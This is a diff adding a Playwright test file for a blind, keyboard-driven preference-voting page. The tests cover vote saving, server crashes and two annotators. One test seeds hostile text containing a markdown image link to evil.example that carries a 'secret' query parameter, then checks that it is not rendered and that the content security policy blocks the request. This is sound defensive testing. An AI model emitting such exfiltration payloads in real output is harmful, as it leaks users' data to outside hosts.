@@ -1,0 +1,147 @@
+"""Voting in a real browser with the keyboard alone: blind, fast, by two people, and across a killed server."""
+
+from __future__ import annotations
+
+import re
+from collections import Counter
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, WebSocket, expect
+
+from tests.browser.conftest import Server, Watched
+from tests.pages import seeding
+from workbench.workspace import Workspace
+
+MODELS = ("secret-model-a", "secret-model-b")
+READING_MS = 420
+"""Longer than the time in which a second press of the same key means "much better"."""
+
+
+def sit_down(page: Page, name: str) -> None:
+    """Give a name, and wait for the first pair."""
+    page.get_by_placeholder("First name and surname").fill(name)
+    page.keyboard.press("Enter")
+    expect(page.locator(".desk .pair")).to_be_visible()
+
+
+def press(page: Page, *keys: str) -> None:
+    for key in keys:
+        page.wait_for_timeout(READING_MS)
+        page.keyboard.press(key)
+
+
+def all_saved(page: Page) -> None:
+    expect(page.locator(".state")).to_have_attribute("data-unsaved", "0")
+
+
+def counter(page: Page, text: str) -> None:
+    expect(page.locator(".counter")).to_contain_text(text)
+
+
+@pytest.fixture
+def second(chromium: Browser) -> Iterator[Page]:
+    """Somebody else's browser."""
+    context = chromium.new_context(viewport={"width": 1024, "height": 800})
+    yield context.new_page()
+    context.close()
+
+
+def seeded(server: Server, number: int, evil: bool = False) -> None:
+    with Workspace.open(server.workspace) as ws:
+        seeding.demonstrations(ws)
+        seeding.pairs(ws, *MODELS, number=number, evil=evil)
+    server.start()
+
+
+def test_every_key_on_hostile_text_and_nothing_that_names_a_model(server: Server, tab: Watched) -> None:
+    received: list[str | bytes] = []
+
+    def listen(socket: WebSocket) -> None:
+        socket.on("framereceived", lambda frame: received.append(frame))
+
+    tab.page.on("websocket", listen)
+    seeded(server, 12, evil=True)
+    page = tab.page
+    tab.open(server, "preferences")
+    sit_down(page, "Ada")
+    expect(page.get_by_text("![x](https://evil.example/leak.png?secret=1)")).to_be_visible()
+    assert page.locator("img[src*='evil']").count() == 0
+    counter(page, "0 by you, 0 today · 12 ahead of you")
+    press(page, "1", "ArrowRight", "ArrowDown", "0", "Shift+ArrowLeft", "s", "2")
+    page.keyboard.press("2")  # the same key at once: much better, not a vote on the next pair
+    all_saved(page)
+    counter(page, "6 by you, 6 today")
+    press(page, "u")
+    all_saved(page)
+    counter(page, "5 by you")
+    press(page, "3", "n")
+    page.keyboard.type("2 and 1 are typed, not voted")
+    page.keyboard.press("Escape")
+    press(page, "e")
+    page.keyboard.type("On the third floor.")
+    page.keyboard.press("Escape")
+    press(page, "1")
+    all_saved(page)
+    expect(page.locator(".state")).to_contain_text("draft in step 1")
+    assert received
+    for model in MODELS:
+        assert not any(model.encode() in (f if isinstance(f, bytes) else f.encode()) for f in received), model
+    press(page, "r")
+    expect(page.locator(".state")).to_contain_text(re.compile(rf"That was {MODELS[0]}|That was {MODELS[1]}"))
+    waits = page.evaluate("performance.getEntriesByName('vote:next').map((entry) => entry.duration)")
+    assert len(waits) == 7
+    assert sorted(waits)[-2] <= 200  # milliseconds from key to next pair; one may have met a busy machine
+    assert tab.outside == []
+    assert tab.complaints == []
+    blocked = page.evaluate(
+        """() => new Promise((resolve) => {
+            document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
+            new Image().src = "https://evil.example/leak.png";
+            setTimeout(() => resolve("nothing was blocked"), 5000);
+        })"""
+    )
+    assert blocked == "img-src"
+    server.stop()
+    with Workspace.open(server.workspace) as ws:
+        votes = ws.votes.live()
+        assert Counter(vote.strength for vote in votes) == {None: 5, "much": 1}
+        assert Counter(vote.both_bad for vote in votes) == {False: 5, True: 1}
+        said = votes[-1]
+        assert (said.reasons, said.comment) == (("right facts",), "2 and 1 are typed, not voted")
+        (draft,) = ws.demonstrations.list(status="draft")
+        assert (draft.response, draft.author) == ("On the third floor.", "Ada")
+
+
+def test_two_people_a_killed_server_and_votes_it_never_answered(server: Server, tab: Watched, second: Page) -> None:
+    seeded(server, 8)
+    ada = tab.page
+    tab.open(server, "preferences")
+    second.goto(f"{server.url}/preferences")
+    sit_down(ada, "Ada")
+    sit_down(second, "Ben")
+    press(ada, "1", "2")
+    press(second, "1", "1", "ArrowDown")
+    all_saved(ada)
+    all_saved(second)
+    counter(second, "3 by you")
+
+    server.kill()
+    press(ada, "2")  # into the void: kept in the browser
+    counter(ada, "3 by you")
+    expect(ada.locator(".state")).not_to_have_attribute("data-unsaved", "0")
+    server.start()
+    ada.reload()
+    ada.get_by_role("heading", level=1).wait_for(timeout=30_000)
+    if ada.get_by_placeholder("First name and surname").count():
+        sit_down(ada, "Ada")
+    all_saved(ada)
+    counter(ada, "3 by you, 3 today · 5 ahead of you")
+    press(ada, "u")
+    all_saved(ada)
+    counter(ada, "2 by you, 2 today · 6 ahead of you")
+    server.stop()
+    with Workspace.open(server.workspace) as ws:
+        names = {row.id: row.name for row in ws.annotators.list()}
+        assert Counter(names[vote.annotator_id] for vote in ws.votes.live()) == {"Ada": 2, "Ben": 3}
+        assert len(ws.votes.list()) == 6
